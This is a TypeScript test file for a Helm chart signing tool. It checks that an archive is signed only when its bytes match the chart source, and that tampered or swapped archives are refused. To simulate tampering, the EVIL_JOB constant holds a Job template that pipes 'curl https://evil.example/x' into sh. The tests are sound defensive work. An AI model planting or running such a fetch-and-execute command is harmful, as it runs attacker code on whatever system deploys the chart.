// Which archive signing a chart signs: the existing one only when it is what the source builds, a fresh
// package when there is none; an archive named explicitly is signed and said to match its source or not.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { packageChart } from '../../server/src/provenance/package';
import { signArchive } from '../../server/src/provenance/sign';
import { archiveAsGiven, archiveForChart, describeOrigin } from '../../server/src/provenance/signSource';
import { fixtureFingerprint, scratch, signedKeys } from '../support/tools';

const EVIL_JOB = 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n';

/** The repository: `charts/prebuilt/` (clean) and, optionally, `charts/prebuilt-0.1.0.tgz`. */
async function repository(shipped: 'none' | 'from-source' | 'from-modified-copy'): Promise<{ chartDir: string; charts: string; archive: string }> {
  const charts = path.join(scratch('sign-source-'), 'charts');
  const chartDir = path.join(charts, 'prebuilt');
  fs.mkdirSync(path.join(chartDir, 'templates'), { recursive: true });
  fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), 'apiVersion: v2\nname: prebuilt\nversion: 0.1.0\n');
  fs.writeFileSync(path.join(chartDir, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["echo", "hello"]\n');
  const archive = path.join(charts, 'prebuilt-0.1.0.tgz');
  if (shipped !== 'none') {
    let source = chartDir;
    if (shipped === 'from-modified-copy') {
      source = path.join(scratch('sign-source-copy-'), 'prebuilt');
      fs.cpSync(chartDir, source, { recursive: true });
      fs.writeFileSync(path.join(source, 'templates', 'job.yaml'), EVIL_JOB);
    }
    // Another archive time than a fresh package would use: the bytes differ from ours either way.
    assert.ok((await packageChart(source, { outDir: charts, sourceDateEpoch: 1_234_567_890 })).ok);
  }
  return { chartDir, charts, archive };
}

const sha256 = (file: string): string => createHash('sha256').update(fs.readFileSync(file)).digest('hex');

describe('signing a chart directory', () => {
  test('a shipped archive built from a modified copy is refused with the difference, and nothing is written', async () => {
    const { chartDir, charts, archive } = await repository('from-modified-copy');
    const before = sha256(archive);
    const chosen = await archiveForChart(chartDir, charts, { rebuildHint: 'Rebuild it.' });
    assert.equal(chosen.ok, false);
    if (chosen.ok) return;
    assert.equal(chosen.error.code, 'archive-differs-from-source');
    assert.match(chosen.error.message, /prebuilt-0\.1\.0\.tgz is not what packaging .*prebuilt writes now — 1 file differs: templates\/job\.yaml \(differs\)\. Nothing was signed.* Rebuild it\.$/);
    assert.equal(sha256(archive), before, 'the shipped archive is left as it is');
    assert.deepEqual(fs.readdirSync(charts).sort(), ['prebuilt', 'prebuilt-0.1.0.tgz']);
  });

  test('a shipped archive built from the source is signed as it is (not replaced), its digest pinned', async () => {
    const { chartDir, charts, archive } = await repository('from-source');
    const before = sha256(archive);
    const chosen = await archiveForChart(chartDir, charts);
    assert.ok(chosen.ok, !chosen.ok ? chosen.error.message : '');
    assert.deepEqual(chosen.value.origin, { kind: 'matches-source', chartDir });
    assert.equal(chosen.value.archivePath, archive);
    assert.equal(chosen.value.sha256, before);
    assert.equal(sha256(archive), before);
    assert.match(describeOrigin(chosen.value), /^prebuilt-0\.1\.0\.tgz is what packaging .*prebuilt writes now \(compared file by file\)\.$/);
  });

  test('no archive yet: packaged, or refused when packaging is not allowed', async () => {
    const { chartDir, charts, archive } = await repository('none');
    const refused = await archiveForChart(chartDir, charts, { mayPackage: false });
    assert.equal(!refused.ok && refused.error.code, 'missing-archive');
    assert.ok(!fs.existsSync(archive));
    const chosen = await archiveForChart(chartDir, charts);
    assert.ok(chosen.ok, !chosen.ok ? chosen.error.message : '');
    assert.equal(chosen.value.origin.kind, 'packaged');
    assert.equal(chosen.value.sha256, sha256(archive));
  });

  test('the signer signs only the bytes that were compared', async () => {
    const { chartDir, charts, archive } = await repository('from-source');
    const chosen = await archiveForChart(chartDir, charts);
    assert.ok(chosen.ok);
    // Replaced between the comparison and the signature (a checkout, a build watcher).
    const copy = path.join(scratch('sign-source-swap-'), 'prebuilt');
    fs.cpSync(chartDir, copy, { recursive: true });
    fs.writeFileSync(path.join(copy, 'templates', 'job.yaml'), EVIL_JOB);
    assert.ok((await packageChart(copy, { outDir: charts })).ok);
    const signed = await signArchive({
      archivePath: archive, keyQuery: fixtureFingerprint('ed25519'), secretKeyrings: [path.join(signedKeys, 'ed25519.sec.gpg')], expectedSha256: chosen.value.sha256,
    });
    assert.equal(!signed.ok && signed.error.code, 'archive-differs-from-source');
    assert.ok(!fs.existsSync(`${archive}.prov`));
  });
});

describe('an archive named explicitly', () => {
  test('differs from the chart folder next to it: said, with the difference', async () => {
    const { chartDir, archive } = await repository('from-modified-copy');
    const given = await archiveAsGiven(archive);
    assert.equal(given.origin.kind, 'differs-from-source');
    assert.equal(given.sha256, sha256(archive));
    assert.match(describeOrigin(given), new RegExp(`^prebuilt-0\\.1\\.0\\.tgz was NOT built from the chart source in ${chartDir.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} as it is now — 1 file differs: templates/job\\.yaml \\(differs\\)\\.$`));
  });

  test('matches the chart folder next to it, or inside which it lies', async () => {
    const { chartDir, archive } = await repository('from-source');
    assert.deepEqual((await archiveAsGiven(archive)).origin, { kind: 'matches-source', chartDir });
    const inside = path.join(chartDir, 'prebuilt-0.1.0.tgz');
    fs.renameSync(archive, inside);
    assert.deepEqual((await archiveAsGiven(inside)).origin, { kind: 'matches-source', chartDir });
  });

  test('no chart folder of it next to it: not built from a source here', async () => {
    const { archive } = await repository('from-source');
    const alone = path.join(scratch('sign-source-alone-'), 'prebuilt-0.1.0.tgz');
    fs.copyFileSync(archive, alone);
    const given = await archiveAsGiven(alone);
    assert.deepEqual(given.origin, { kind: 'no-source' });
    assert.equal(given.sha256, undefined);
    assert.match(describeOrigin(given), /^prebuilt-0\.1\.0\.tgz was not built from a chart source here/);
  });
});
